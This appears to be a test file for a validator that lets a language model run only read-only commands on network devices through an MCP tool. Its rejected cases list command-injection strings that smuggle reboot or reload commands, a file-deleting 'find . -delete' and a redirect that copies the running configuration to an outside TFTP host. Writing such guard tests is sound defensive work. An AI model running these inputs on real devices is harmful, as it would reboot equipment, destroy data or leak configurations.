import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { READING_COMMANDS, whyNotReading } from './reading-commands.js';

const CHAPTER = join(import.meta.dirname, '../../docs/mcp.md');

describe('a command that a language model may run', () => {
  it.each([
    'show version',
    '  show   ip route 10.0.0.0/8 longer-prefixes',
    'show running-config | include ^hostname [a-z]+$',
    'show interfaces status | exclude notconnect | count',
    'show configuration | display set | match "ge-0/0/[0-9]"',
    'display current-configuration interface',
    'get system status',
    'get',
    'get_facts',
    'get-config running',
    'walk 1.3.6.1.2.1.1',
    'ping 192.0.2.1 count 3',
    'ping -c 3 192.0.2.1',
    'show configuration | compare rollback 1',
    'show logging | grep -i "link down" | tail -20',
  ])('asks: %s', (command) => {
    expect(whyNotReading(command, null)).toBeUndefined();
  });

  it.each([
    'reload',
    'configure terminal',
    'sh -c reboot',
    'showx version',
    'clear counters',
    'show version\nreload',
    'show version\rreload',
    'show version ; reload',
    'show version;reload',
    'ping 192.0.2.1 && reboot',
    'ping 192.0.2.1 & reboot',
    'show `reboot`',
    'show $(reboot)',
    'show ${x}',
    'show version | include $(reboot)',
    'get [/system reboot]',
    'show running-config | redirect tftp://192.0.2.9/x',
    'show running-config | tee flash:x',
    'show running-config | append flash:x',
    'show running-config | red flash:x',
    'show configuration | save x',
    'show version | vsh',
    'show version || reboot',
    'show version | include a|reload',
    'show running-config > bootflash:x',
    'show version\u001a',
    'show version | find . -delete',
    'show version | find . "-delete"',
    "show version | find . ''-delete",
    'show version | compare a b c',
    'display -write x y',
    'display "-write" x y',
    'info from --output=x',
    'lock running',
    '<edit-config/>',
    '',
  ])('may do more than that: %j', (command) => {
    const fault = whyNotReading(command, null);

    expect(fault).toBeDefined();
    if (command !== '') expect(fault).not.toContain(command);
  });

  it('is what the operator says', () => {
    expect(whyNotReading('/ip route print', ['/ip route print*'])).toBeUndefined();
    expect(whyNotReading('show version', ['/ip route print*'])).toBeDefined();
  });

  it('is named in the chapter on it, unless the operator says something else', () => {
    const chapter = readFileSync(CHAPTER, 'utf8');

    for (const pattern of READING_COMMANDS) expect(chapter).toContain(`\`${pattern}\``);
  });
});
